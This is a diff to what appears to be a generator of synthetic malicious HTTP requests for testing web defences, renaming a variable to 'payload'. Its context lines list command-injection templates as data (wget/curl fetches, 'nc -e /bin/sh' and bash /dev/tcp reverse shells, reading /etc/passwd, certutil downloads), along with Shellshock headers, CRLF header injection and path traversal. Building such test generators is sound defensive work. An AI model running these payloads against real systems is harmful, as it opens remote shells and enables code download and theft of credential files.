@@ -54,7 +54,7 @@ def _word_in_quotes(r: R, command: str) -> str:
 
 def _command(r: R) -> str:
     host = f"{word(r)}.com"
-    made = r.choice((r.choice(COMMANDS), r.choice(COMMANDS), f"wget http://{host}/{word(r)}.sh", f"curl http://{host}/{word(r)}",
+    payload = r.choice((r.choice(COMMANDS), r.choice(COMMANDS), f"wget http://{host}/{word(r)}.sh", f"curl http://{host}/{word(r)}",
         f"nslookup {host}", f"nc -e /bin/sh {host} {r.randint(80, 9999)}",
         f"bash -i >& /dev/tcp/10.0.0.{r.randint(1, 9)}/{r.randint(80, 9999)} 0>&1",
         f"/bin/{r.choice(('cat', 'ls', 'id', 'sh', 'ping', 'sleep 5', 'bash -c id'))}",
@@ -66,7 +66,7 @@ def _command(r: R) -> str:
         "/???/??t /???/p??s??", f"printf {word(r)}|sh", f"getent hosts {host}", f"echo $(({r.randint(1, 999)}*{r.randint(1, 999)}))",
         "cat /etc/pass*", f"busybox telnetd -p {r.randint(1, 9999)}", f"tftp -g -r {word(r)} {host}",
         f"certutil -urlcache -f http://{host}/x.exe x.exe"))  # fmt: skip
-    return _word_in_quotes(r, made)
+    return _word_in_quotes(r, payload)
 
 
 def command(r: R) -> str:
@@ -95,8 +95,8 @@ def substitution(r: R) -> str:
 def alone(r: R) -> str:
     """A command as the whole value, for parameters that a shell receives."""
     while True:
-        made = _command(r)
-        if any(c in made for c in "/$|-:;&") or made in (
+        payload = _command(r)
+        if any(c in payload for c in "/$|-:;&") or payload in (
             "whoami",
             "ifconfig",
             "netstat -an",
@@ -104,14 +104,14 @@ def alone(r: R) -> str:
             "tasklist",
             "net user",
         ):
-            return made
+            return payload
 
 
 def shellshock(r: R) -> Request:
     """Function definitions that old shells run on."""
-    made = f"() {{ {r.choice((':;', ':; ', '_;', 'x;', ' :;'))}}}{r.choice(('; ', ';', ' ; echo; '))}{_command(r)}"
+    payload = f"() {{ {r.choice((':;', ':; ', '_;', 'x;', ' :;'))}}}{r.choice(('; ', ';', ' ; echo; '))}{_command(r)}"
     where = r.random()
-    agent, origin = (made, referer(r)) if where < 0.7 else (browser(r), made)
+    agent, origin = (payload, referer(r)) if where < 0.7 else (browser(r), payload)
     return Request("GET", r.choice((*PATHS, "/cgi-bin/test.cgi", "/cgi-bin/status")), None, agent, origin)
 
 
@@ -126,12 +126,12 @@ def header(r: R) -> str:
     """Line ends that begin a header, a body or a command of another protocol."""
     end = r.choice(("\r\n", "\n", "\r", "%0d%0a", "%0a", "%0D%0A", "%0d%0a%20", "\\r\\n", "%E5%98%8D%E5%98%8A", "%23%0d%0a", "\r\n\t",
         "%250d%250a", "%3f%0d%0a"))  # fmt: skip
-    made = r.choice((f"Set-Cookie: {word(r)}={word(r)}", f"Location: http://{word(r)}.com/", "Content-Length: 0",
+    payload = r.choice((f"Set-Cookie: {word(r)}={word(r)}", f"Location: http://{word(r)}.com/", "Content-Length: 0",
         f"X-{word(r).title()}: {word(r)}", f"{word(r).title()}-{word(r).title()}: {word(r)}",
         f"Content-Type: text/html{end}{end}<b>{word(r)}</b>", f"HTTP/1.1 200 OK{end}Content-Length: 9", f"GET /{word(r)} HTTP/1.1",
         f"bcc: {word(r)}@{word(r)}.com", f"RCPT TO:<{word(r)}@{word(r)}.com>", "QUIT", f"Host: {word(r)}.com",
         f"A1 LOGIN {word(r)} {word(r)}", "DATA", "Transfer-Encoding: chunked", f"Refresh: 0;url=http://{word(r)}.com"))  # fmt: skip
-    return f"{r.choice(('', word(r), str(r.randint(1, 99)), '/'))}{end}{made}{r.choice(('', '', end))}"
+    return f"{r.choice(('', word(r), str(r.randint(1, 99)), '/'))}{end}{payload}{r.choice(('', '', end))}"
 
 
 def strange(r: R) -> Request:
@@ -165,10 +165,10 @@ def strange(r: R) -> Request:
 
 def climbing_path(r: R) -> Request:
     """Up the tree in the path itself."""
-    made = climbing(r)
+    payload = climbing(r)
     if r.random() < 0.3:
-        made = quote(made, safe="/")
-    return Request("GET", f"{r.choice(PATHS).rstrip('/')}/{made}", None, browser(r), referer(r))
+        payload = quote(payload, safe="/")
+    return Request("GET", f"{r.choice(PATHS).rstrip('/')}/{payload}", None, browser(r), referer(r))
 
 
 FAMILIES: tuple[tuple[str, str, str, float, Callable[[R], str | Request]], ...] = (
